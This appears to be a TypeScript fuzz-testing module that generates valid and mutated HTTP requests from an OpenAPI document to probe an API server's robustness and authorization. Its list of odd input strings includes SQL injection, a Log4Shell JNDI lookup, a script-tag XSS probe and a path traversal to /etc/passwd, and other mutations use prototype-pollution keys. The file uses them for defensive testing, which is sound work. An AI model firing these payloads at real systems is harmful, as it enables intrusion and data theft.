import Ajv2020, { ValidateFunction } from 'ajv/dist/2020';
import addFormats from 'ajv-formats';
import fc from 'fast-check';
import { JsonSchema, arbitraryFromSchema, deref } from './json-schema-arbitrary';

/**
 * Requests generated from the served OpenAPI document, for the fuzz suite (test/fuzz.e2e-spec.ts):
 * valid ones (every parameter and body from its schema, with realistic hints and the ids of real
 * fixtures), and invalid ones made by mutating a valid one (a member dropped, retyped, nulled,
 * huge, with a NUL byte, odd Unicode, nested 5,000 deep; malformed JSON, another media type,
 * bad path ids and query values; no key, a bad key, another establishment's key).
 */

export type AuthKind = 'key' | 'other-establishment' | 'none' | 'malformed' | 'unknown-key';

export interface ParameterObject {
  name: string;
  in: 'path' | 'query' | 'header' | 'cookie';
  required?: boolean;
  schema?: JsonSchema;
}

export interface FuzzOperation {
  operationId: string;
  method: string;
  template: string;
  parameters: ParameterObject[];
  /** Schema of the `application/json` request body, if the operation takes one. */
  body?: { required: boolean; schema: JsonSchema };
  /** Needs a GAP key (the document's `security`). */
  secured: boolean;
}

export interface FuzzRequest {
  operationId: string;
  /** `valid`, or the mutations applied (`body:null-member`, `path:bad-id`, `auth:none`…). */
  variant: string;
  auth: AuthKind;
  method: string;
  /** Encoded path and query string, as sent. */
  path: string;
  headers: Record<string, string>;
  /** Raw body, as sent. */
  body?: string;
  /** The JSON value the body encodes, when it is JSON. */
  json?: unknown;
  /** A path parameter names a fixture that belongs to the suite's own establishment only. */
  namesOwnFixture: boolean;
}

/** Real resources of the suite's establishment, by the collection path their ids go under (`/v1/dossiers`). */
export type FixtureIds = Record<string, string[]>;

export interface FuzzContext {
  document: any;
  fixtures: FixtureIds;
  /** Collections whose ids are names each establishment chooses (a régie code): another key may use them too. */
  sharedNames: string[];
  /** Realistic values, by property or parameter name (see SchemaArbitraryOptions.hints). */
  hints: Record<string, fc.Arbitrary<unknown>>;
}

const HTTP_METHODS = ['get', 'put', 'post', 'delete', 'patch'];

export function fuzzOperations(document: any): FuzzOperation[] {
  const operations: FuzzOperation[] = [];
  for (const [template, item] of Object.entries<any>(document.paths)) {
    for (const [method, op] of Object.entries<any>(item)) {
      if (!HTTP_METHODS.includes(method)) continue;
      const parameters = [...(item.parameters ?? []), ...(op.parameters ?? [])].map((p: any) => deref(p, document) as unknown as ParameterObject);
      const requestBody = op.requestBody ? (deref(op.requestBody, document) as any) : undefined;
      const json = requestBody?.content?.['application/json'];
      operations.push({
        operationId: op.operationId ?? `${method} ${template}`,
        method: method.toUpperCase(),
        template,
        parameters,
        body: json ? { required: Boolean(requestBody.required), schema: json.schema ?? true } : undefined,
        secured: (op.security ?? document.security ?? []).some((requirement: object) => Object.keys(requirement).length > 0),
      });
    }
  }
  return operations;
}

/** The collection a path parameter's ids belong to: the template up to the parameter (`/v1/dossiers/{id}/…` → `/v1/dossiers`). */
export function collectionOf(template: string, parameter: string): string {
  return template.slice(0, template.indexOf(`{${parameter}}`)).replace(/\/$/, '');
}

/** Validates "valid" bodies against the document: a generated body the document refuses is a bug of the generator. */
export class RequestSchemas {
  private readonly ajv = new Ajv2020({ strict: false, allErrors: true, validateSchema: false });
  private readonly compiled = new Map<string, ValidateFunction>();

  constructor(document: unknown) {
    addFormats(this.ajv);
    this.ajv.addSchema({ ...(document as object), $id: 'urn:diapason:fuzz:document' });
  }

  /** Errors of a body against ProblemView (RFC 9457 problem), or null. */
  problem(value: unknown): string | null {
    const validate = this.ajv.getSchema('urn:diapason:fuzz:document#/components/schemas/ProblemView');
    if (!validate) return 'the document has no ProblemView schema';
    return validate(value) ? null : this.ajv.errorsText(validate.errors);
  }

  check(operation: FuzzOperation, value: unknown): string | null {
    if (!operation.body) return null;
    let validate = this.compiled.get(operation.operationId);
    if (!validate) {
      validate = this.ajv.compile({ $id: `urn:diapason:fuzz:${operation.operationId}`, allOf: [withBase(operation.body.schema)] });
      this.compiled.set(operation.operationId, validate);
    }
    return validate(value) ? null : this.ajv.errorsText(validate.errors);
  }
}

const withBase = (schema: JsonSchema): JsonSchema =>
  typeof schema === 'object' && typeof schema.$ref === 'string' && schema.$ref.startsWith('#')
    ? { ...schema, $ref: `urn:diapason:fuzz:document${schema.$ref}` }
    : schema;

// ————————————————————————————————————————————————— hostile values

const DEEP = 5000;
/** Strings no schema of the document forbids but that code may choke on. */
export const ODD_STRINGS = [
  '\uD800', // lone surrogates
  'a\uDC00@example.test',
  '\u202Eevil\u202C', // right-to-left override
  '\uFEFFBOM',
  'e\u0301\u0301\u0301',
  '𝕏🏥👩🏽‍⚕️',
  '\u200B\u200C\u200D',
  'line\u2028break\r\n',
  "' OR '1'='1",
  '"; DROP TABLE dossier; --',
  '${jndi:ldap://192.0.2.1/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%00%2e%2e',
  '\\',
  ' ',
  '',
];

/** A JSON text nested `depth` levels deep (arrays or objects). */
export function deepJsonText(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

const wrongTypeValue = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant([]),
  fc.constant({}),
  fc.array(fc.string(), { minLength: 1, maxLength: 3 }),
  fc.string({ maxLength: 5 }),
);

const strangeNumber = fc.constantFrom(0, -1, 1.5, 2 ** 31, 2 ** 31 - 1, -(2 ** 31) - 1, 2 ** 53 + 2, 1e308, -1e308, 5e-324);

const nulString = fc.tuple(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 })).map(([a, b]) => `${a}\u0000${b}`);

/** A marker replaced, once the body is encoded, by a value JSON.stringify cannot produce (deep nesting). */
const DEEP_MARKER = '__fuzz_deep_nesting__';

type BodyMutation = { name: string; apply: (value: unknown) => fc.Arbitrary<unknown> };

interface Member {
  path: (string | number)[];
  value: unknown;
}

function members(value: unknown, path: (string | number)[] = []): Member[] {
  if (Array.isArray(value)) return value.flatMap((v, i) => [{ path: [...path, i], value: v }, ...members(v, [...path, i])]);
  if (value && typeof value === 'object') {
    return Object.entries(value).flatMap(([k, v]) => [{ path: [...path, k], value: v }, ...members(v, [...path, k])]);
  }
  return [];
}

function setAt(root: unknown, path: (string | number)[], replacement: unknown): unknown {
  if (path.length === 0) return replacement;
  const copy: any = Array.isArray(root) ? [...root] : { ...(root as object) };
  const [head, ...rest] = path;
  if (rest.length === 0) {
    if (replacement === REMOVE) {
      if (Array.isArray(copy)) copy.splice(head as number, 1);
      else delete copy[head];
    } else copy[head] = replacement;
  } else copy[head] = setAt(copy[head], rest, replacement);
  return copy;
}
const REMOVE = Symbol('remove');

/**
 * Where a mutation may put a value: the body's members, and the members its schema documents
 * (present or not) in the objects the body has, so that optional members absent from the valid
 * body are hit too.
 */
function targetsOf(body: unknown, schema: JsonSchema, document: unknown): (string | number)[][] {
  const paths = new Map<string, (string | number)[]>();
  for (const m of members(body)) paths.set(JSON.stringify(m.path), m.path);
  const walk = (node: JsonSchema, value: unknown, prefix: (string | number)[], depth: number) => {
    const resolved = deref(node, document);
    if (depth > 5 || typeof resolved !== 'object' || !value || typeof value !== 'object' || Array.isArray(value)) return;
    for (const [name, property] of Object.entries((resolved.properties ?? {}) as Record<string, JsonSchema>)) {
      const path = [...prefix, name];
      paths.set(JSON.stringify(path), path);
      walk(property, (value as Record<string, unknown>)[name], path, depth + 1);
    }
  };
  walk(schema, body, [], 0);
  return [...paths.values()];
}

/** Replace one member (or the whole body when there is none to target) with a value from `values`. */
const atSomeMember =
  (values: fc.Arbitrary<unknown>, schema: JsonSchema, document: unknown) =>
  (body: unknown): fc.Arbitrary<unknown> => {
    const targets = targetsOf(body, schema, document);
    if (targets.length === 0) return values;
    return fc.tuple(fc.constantFrom(...targets), values).map(([path, v]) => setAt(body, path, v));
  };

function getAt(root: unknown, path: (string | number)[]): unknown {
  return path.reduce<unknown>((node, segment) => (node && typeof node === 'object' ? (node as Record<string, unknown>)[segment] : undefined), root);
}

/** Put a value from `values` into one string member of the body, or one its schema documents (the whole body when none). */
const intoSomeString =
  (values: fc.Arbitrary<string>, schema: JsonSchema, document: unknown) =>
  (body: unknown): fc.Arbitrary<unknown> => {
    const targets = targetsOf(body, schema, document).filter((path) => ['string', 'undefined'].includes(typeof getAt(body, path)));
    if (targets.length === 0) return values;
    return fc
      .tuple(fc.constantFrom(...targets), values)
      .map(([path, v]) => setAt(body, path, `${(getAt(body, path) as string | undefined) ?? ''}${v}`));
  };

function bodyMutations(schema: JsonSchema, document: unknown): BodyMutation[] {
  return [
    {
      name: 'drop-required',
      apply: (body) => {
        const droppable = members(body).filter((m) => typeof m.path[m.path.length - 1] === 'string' && isRequired(schema, m.path, document));
        return droppable.length ? fc.constantFrom(...droppable).map((m) => setAt(body, m.path, REMOVE)) : fc.constant({});
      },
    },
    { name: 'wrong-type', apply: atSomeMember(wrongTypeValue, schema, document) },
    { name: 'null-member', apply: atSomeMember(fc.constant(null), schema, document) },
    { name: 'strange-number', apply: atSomeMember(strangeNumber, schema, document) },
    {
      name: 'long-string',
      apply: atSomeMember(
        fc.constantFrom(300, 5_000, 60_000).map((n) => 'é'.repeat(n)),
        schema,
        document,
      ),
    },
    { name: 'nul-byte', apply: intoSomeString(nulString, schema, document) },
    { name: 'odd-unicode', apply: atSomeMember(fc.constantFrom(...ODD_STRINGS), schema, document) },
    { name: 'deep-nesting', apply: atSomeMember(fc.constant(DEEP_MARKER), schema, document) },
    {
      name: 'extra-member',
      apply: (body) =>
        fc
          .tuple(fc.constantFrom('favouriteColour', '__proto__', 'constructor', 'id', 'establishmentId', 'status'), fc.jsonValue({ maxDepth: 2 }))
          .map(([k, v]) => (body && typeof body === 'object' && !Array.isArray(body) ? { ...body, [k]: v } : { [k]: v })),
    },
    { name: 'not-an-object', apply: () => fc.constantFrom<unknown>([], [{}], 'texte', 42, null, true) },
  ];
}

/** Whether the member at `path` is listed in `required` by the schema of its parent (followed through $ref). */
function isRequired(schema: JsonSchema, path: (string | number)[], document: unknown): boolean {
  let node = deref(schema, document);
  for (const segment of path.slice(0, -1)) {
    if (typeof node !== 'object') return false;
    const next = typeof segment === 'number' ? node.items : (node.properties as Record<string, JsonSchema> | undefined)?.[segment];
    if (next === undefined) return false;
    node = deref(next as JsonSchema, document);
  }
  return typeof node === 'object' && Array.isArray(node.required) && node.required.includes(path[path.length - 1]);
}

const RAW_BODIES = fc.constantFrom(
  '{',
  '{"a":1,}',
  "{'a':1}",
  'NaN',
  '{"a":01}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  '\uFEFF{}',
  '[1,2',
  '{"a":1}{"b":2}',
  '',
  ' ',
  'null',
  deepJsonText(DEEP, 'array'),
  deepJsonText(DEEP, 'object'),
);

const WRONG_CONTENT_TYPES = fc.constantFrom(
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json; charset=utf-16',
  'application/merge-patch+json',
  'application/jsonx',
  '*/*',
);

const BAD_PATH_IDS = fc.oneof(
  fc.uuid(),
  fc.constantFrom('%00', 'a%00b', '%ZZ', '%', '%2F', '%2e%2e', '.', 'x'.repeat(300), '-1', '0', 'null', 'undefined', '%F0%9F%8F%A5', '%C3%A9', '%FF'),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }).map(encodeURIComponent),
);

const BAD_QUERY_VALUES = fc.constantFrom('-1', '0', '101', '1.5', '1e3', 'abc', '', '%00', 'a%00', '%ZZ', 'x'.repeat(2_000), '%F0%9F%8F%A5', 'true');

// ————————————————————————————————————————————————— valid parts

interface Parts {
  pathParams: Record<string, string>;
  /** Already encoded `name=value` pairs. */
  query: string[];
  headers: Record<string, string>;
  body: unknown;
  hasBody: boolean;
  namesOwnFixture: boolean;
}

function pathParamArbitrary(operation: FuzzOperation, parameter: ParameterObject, context: FuzzContext) {
  const collection = collectionOf(operation.template, parameter.name);
  const ids = context.fixtures[collection] ?? [];
  const owned = !context.sharedNames.includes(collection);
  const own = arbitraryFromSchema(parameter.schema ?? { type: 'string' }, { root: context.document })
    .map(String)
    .filter((s) => s.length > 0)
    .map((value) => ({ value: encodeURIComponent(value), fixture: false }));
  if (ids.length === 0) return own;
  return fc.oneof(
    { arbitrary: fc.constantFrom(...ids).map((value) => ({ value: encodeURIComponent(value), fixture: owned })), weight: 4 },
    { arbitrary: own, weight: 1 },
  );
}

function validParts(operation: FuzzOperation, context: FuzzContext): fc.Arbitrary<Parts> {
  const schemaOptions = { root: context.document, hints: context.hints };
  const paramArbitrary = (p: ParameterObject) => {
    const own = arbitraryFromSchema(p.schema ?? { type: 'string' }, schemaOptions);
    const hint = context.hints[p.name];
    return hint ? fc.oneof(own, hint) : own;
  };
  const pathParams = operation.parameters.filter((p) => p.in === 'path');
  const queryParams = operation.parameters.filter((p) => p.in === 'query');
  const headerParams = operation.parameters.filter((p) => p.in === 'header');
  const optional = <T>(arbitrary: fc.Arbitrary<T>, required?: boolean) => (required ? arbitrary : fc.option(arbitrary, { nil: undefined }));

  return fc
    .record({
      path: fc.tuple(...pathParams.map((p) => pathParamArbitrary(operation, p, context))),
      query: fc.tuple(...queryParams.map((p) => optional(paramArbitrary(p), p.required))),
      headers: fc.tuple(...headerParams.map((p) => optional(paramArbitrary(p), p.required))),
      body: operation.body ? optional(arbitraryFromSchema(operation.body.schema, schemaOptions), operation.body.required) : fc.constant(undefined),
    })
    .map(({ path, query, headers, body }) => ({
      pathParams: Object.fromEntries(pathParams.map((p, i) => [p.name, path[i].value])),
      namesOwnFixture: path.some((p) => p.fixture),
      query: queryParams.flatMap((p, i) =>
        query[i] === undefined ? [] : [`${encodeURIComponent(p.name)}=${encodeURIComponent(parameterText(query[i]))}`],
      ),
      headers: Object.fromEntries(headerParams.flatMap((p, i) => (headers[i] === undefined ? [] : [[p.name, parameterText(headers[i])]]))),
      body,
      hasBody: body !== undefined,
    }));
}

/** A parameter's value as text (style `form` / `simple` for the primitives the document uses). */
function parameterText(value: unknown): string {
  return typeof value === 'string' ? value : JSON.stringify(value);
}

// ————————————————————————————————————————————————— assembling requests

interface Draft extends Parts {
  variant: string[];
  auth: AuthKind;
  rawBody?: string;
  contentType?: string;
}

function assemble(operation: FuzzOperation, draft: Draft): FuzzRequest {
  const path = operation.template.replace(/\{([^}]+)\}/g, (_m, name: string) => draft.pathParams[name] ?? '');
  const headers: Record<string, string> = { ...draft.headers };
  let body: string | undefined;
  let json: unknown;
  if (draft.rawBody !== undefined) {
    body = draft.rawBody;
  } else if (draft.hasBody) {
    json = draft.body;
    body = JSON.stringify(json);
    if (body.includes(DEEP_MARKER)) {
      const deep = deepJsonText(DEEP, 'array');
      body = body.replace(`"${DEEP_MARKER}"`, deep);
    }
  }
  if (body !== undefined) headers['content-type'] = draft.contentType ?? 'application/json';
  return {
    operationId: operation.operationId,
    variant: draft.variant.length ? draft.variant.join(' + ') : 'valid',
    auth: draft.auth,
    method: operation.method,
    path: draft.query.length ? `${path}?${draft.query.join('&')}` : path,
    headers,
    body,
    json,
    namesOwnFixture: draft.namesOwnFixture,
  };
}

type Mutation = { name: string; applies: boolean; apply: (draft: Draft) => fc.Arbitrary<Draft> };

function mutations(operation: FuzzOperation, context: FuzzContext): Mutation[] {
  const pathParams = operation.parameters.filter((p) => p.in === 'path');
  const queryParams = operation.parameters.filter((p) => p.in === 'query');
  const idempotency = operation.parameters.some((p) => p.in === 'header' && p.name.toLowerCase() === 'idempotency-key');
  const withBody = (d: Draft, name: string, body: unknown): Draft => ({ ...d, variant: [...d.variant, `body:${name}`], body, hasBody: true });
  const body = operation.body
    ? bodyMutations(operation.body.schema, context.document).map<Mutation>((m) => ({
        name: `body:${m.name}`,
        applies: true,
        apply: (d) => m.apply(d.body ?? {}).map((b) => withBody(d, m.name, b)),
      }))
    : [];
  const others: Mutation[] = [
    {
      name: 'body:malformed',
      applies: Boolean(operation.body),
      apply: (d) => RAW_BODIES.map((raw) => ({ ...d, variant: [...d.variant, 'body:malformed'], rawBody: raw, hasBody: true })),
    },
    {
      name: 'body:content-type',
      applies: Boolean(operation.body),
      apply: (d) =>
        WRONG_CONTENT_TYPES.map((type) => ({
          ...d,
          variant: [...d.variant, `body:content-type ${type}`],
          contentType: type,
          rawBody: type.includes('form-urlencoded') ? 'a=1&b=%00' : JSON.stringify(d.body ?? {}),
          hasBody: true,
        })),
    },
    {
      name: 'body:unexpected',
      // A body sent to an operation that takes none (not GET: fetch cannot send one).
      applies: !operation.body && operation.method !== 'GET',
      apply: (d) => fc.jsonValue({ maxDepth: 2 }).map((b) => withBody(d, 'unexpected', b)),
    },
    {
      name: 'path:bad-id',
      applies: pathParams.length > 0,
      apply: (d) =>
        fc.tuple(fc.constantFrom(...pathParams), BAD_PATH_IDS).map(([p, value]) => ({
          ...d,
          variant: [...d.variant, `path:bad ${p.name}`],
          pathParams: { ...d.pathParams, [p.name]: value },
          namesOwnFixture: false,
        })),
    },
    {
      name: 'query:bad-value',
      applies: queryParams.length > 0,
      apply: (d) =>
        fc.tuple(fc.constantFrom(...queryParams), BAD_QUERY_VALUES, fc.boolean()).map(([p, value, twice]) => {
          const pair = `${encodeURIComponent(p.name)}=${value}`;
          return {
            ...d,
            variant: [...d.variant, `query:bad ${p.name}${twice ? ' (repeated)' : ''}`],
            query: [...d.query, pair, ...(twice ? [pair] : [])],
          };
        }),
    },
    {
      name: 'query:unknown',
      applies: true,
      apply: (d) =>
        fc
          .tuple(fc.constantFrom('fuzz', '__proto__', 'limit[]', 'status[0]', 'a%00'), BAD_QUERY_VALUES)
          .map(([name, value]) => ({ ...d, variant: [...d.variant, `query:unknown ${name}`], query: [...d.query, `${name}=${value}`] })),
    },
    {
      name: 'header:idempotency-key',
      applies: idempotency,
      apply: (d) =>
        fc
          .constantFrom('x'.repeat(256), 'with space', 'tab\there', 'é', 'fuzz-reused-key')
          .map((key) => ({ ...d, variant: [...d.variant, 'header:idempotency-key'], headers: { ...d.headers, 'Idempotency-Key': key } })),
    },
  ];
  return [...body, ...others].filter((m) => m.applies);
}

const AUTH_KINDS = fc.constantFrom<AuthKind>('none', 'malformed', 'unknown-key', 'other-establishment');
/** `Authorization` values that are no bearer key (`{key}` is replaced by the suite's own key when sent). */
const MALFORMED_AUTHORIZATIONS = fc.constantFrom(
  'Bearer',
  'Bearer ',
  'Basic Zm9vOmJhcg==',
  'Bearer {key} {key}',
  'Bearer short',
  'Token {key}',
  'Bearer {key}\u00e9',
);

function withAuth(draft: Draft, auth: AuthKind, malformed: string): Draft {
  const headers = auth === 'malformed' ? { ...draft.headers, authorization: malformed } : draft.headers;
  return { ...draft, auth, headers, variant: [...draft.variant, `auth:${auth}`] };
}

/** One request for `operation`: valid (about 40 %), mutated, or with another key or none. */
export function requestArbitrary(operation: FuzzOperation, context: FuzzContext): fc.Arbitrary<FuzzRequest> {
  const base = validParts(operation, context).map<Draft>((parts) => ({ ...parts, variant: [], auth: 'key' }));
  const available = mutations(operation, context);
  const mutated = base.chain((draft) => fc.constantFrom(...available).chain((m) => m.apply(draft)));
  const otherAuth = fc.tuple(base, AUTH_KINDS, MALFORMED_AUTHORIZATIONS).map(([draft, auth, malformed]) => withAuth(draft, auth, malformed));
  // Without a key, a hostile body too: the key must be checked before the body is read.
  const otherAuthMutated = fc
    .tuple(mutated, AUTH_KINDS, MALFORMED_AUTHORIZATIONS)
    .map(([draft, auth, malformed]) => withAuth(draft, auth, malformed));
  return fc
    .oneof(
      { arbitrary: base, weight: 8 },
      { arbitrary: mutated, weight: 8 },
      { arbitrary: otherAuth, weight: 3 },
      { arbitrary: otherAuthMutated, weight: 1 },
    )
    .map((draft) => assemble(operation, draft));
}

/** Requests to addresses and methods the document does not list: Nest's 404 (or 405) problems. */
export function undocumentedRequestArbitrary(operations: FuzzOperation[]): fc.Arbitrary<FuzzRequest> {
  const templates = [...new Set(operations.map((o) => o.template))];
  const knownMethods = (template: string) => new Set(operations.filter((o) => o.template === template).map((o) => o.method));
  const otherMethod = fc
    .tuple(fc.constantFrom(...templates), fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'))
    .filter(([template, method]) => !knownMethods(template).has(method))
    .map(([template, method]) => ({ method, path: template.replace(/\{[^}]+\}/g, 'fuzz'), variant: 'undocumented method' }));
  const otherPath = fc
    .tuple(fc.constantFrom('/v1/', '/v2/', '/v1/dossiers/x/y/z/', '/'), fc.stringMatching(/^[a-z0-9%-]{1,20}$/))
    .map(([prefix, rest]) => ({ method: 'GET', path: `${prefix}${rest}`, variant: 'undocumented path' }));
  return fc.tuple(fc.oneof(otherMethod, otherPath), fc.constantFrom<AuthKind>('key', 'none')).map(([r, auth]) => ({
    operationId: '(undocumented)',
    variant: r.variant,
    auth,
    method: r.method,
    path: r.path,
    headers: {},
    namesOwnFixture: false,
  }));
}

/**
 * Requests no client of the document can send: a request-target whose percent-encoding does not
 * decode (`%` not followed by two hex digits, RFC 3986 §2.1, or bytes that are not UTF-8: no string
 * parameter encodes to them), a body for an operation that documents none, or a body sent where
 * the server routes to no documented operation (the body is read before the route is looked up).
 * Any 4xx problem (ProblemView) is a fine answer to them, 5xx never.
 */
export function outsideDocument(request: FuzzRequest, operations: FuzzOperation[]): boolean {
  const [path, query = ''] = request.path.split('?');
  if (!decodes(path) || !query.split('&').every(decodes) || request.variant.includes('body:unexpected')) return true;
  return request.body !== undefined && !documents(operations, request.method, routedPath(request));
}

/** Whether an operation of the document answers `method` at `path`. */
export function documents(operations: FuzzOperation[], method: string, path: string): boolean {
  const pathname = path.split('?')[0];
  return operations.some((o) => o.method === method && templatePattern(o.template).test(pathname));
}

const templatePattern = (template: string) => new RegExp(`^${template.replace(/[.*+?^$()|[\]\\]/g, '\\$&').replace(/\{[^}/]+\}/g, '[^/]+')}$`);

/** Whether a percent-encoded text decodes (well-formed escapes of UTF-8 bytes: what a client makes of a string). */
function decodes(text: string): boolean {
  try {
    decodeURIComponent(text);
    return true;
  } catch {
    return false;
  }
}

/**
 * The address the server routes: dot segments (`.`, `%2e%2e`) resolved by the URL parser, and a
 * trailing slash dropped (Express's routing is not strict: `/v1/dossiers/` is `/v1/dossiers`).
 */
export function routedPath(request: FuzzRequest): string {
  const [path, query] = request.path.split('?');
  const pathname = new URL(path, 'http://x').pathname;
  const routed = pathname.length > 1 ? pathname.replace(/\/+$/, '') || '/' : pathname;
  return query === undefined ? routed : `${routed}?${query}`;
}

/** Whether the server routes the request elsewhere than the operation it was made for. */
export function pathIsRewritten(request: FuzzRequest): boolean {
  return routedPath(request).split('?')[0] !== request.path.split('?')[0];
}

/** Whether the request carries a NUL byte anywhere (path, query, body). */
export function carriesNul(request: FuzzRequest): boolean {
  return /%00/i.test(request.path) || (request.body ?? '').includes('\\u0000') || (request.body ?? '').includes('\u0000');
}

/** Whether the JSON body has a `null` member somewhere. */
export function carriesNullMember(request: FuzzRequest): boolean {
  return members(request.json).some((m) => m.value === null);
}

/** Whether the body carries a lone UTF-16 surrogate (JSON.stringify escapes only those as `\udXXX`). */
export function carriesLoneSurrogate(request: FuzzRequest): boolean {
  return /\\ud[89a-f][0-9a-f]{2}/i.test(request.body ?? '');
}

export function carriesDeepNesting(request: FuzzRequest): boolean {
  return (request.body ?? '').includes('[[[[[[[[[[') || (request.body ?? '').includes('{"a":{"a":{"a":{"a":');
}

/** The request in a few lines, for a report (keys named by role, bodies cut). */
export function describeRequest(request: FuzzRequest): string {
  const body = request.body === undefined ? '' : `\n    body (${request.body.length} chars): ${JSON.stringify(request.body.slice(0, 300))}`;
  const headers = Object.keys(request.headers).length ? `\n    headers: ${JSON.stringify(request.headers).slice(0, 300)}` : '';
  return `${request.method} ${request.path.slice(0, 300)}\n    operation: ${request.operationId}; variant: ${request.variant}; key: ${request.auth}${headers}${body}`;
}
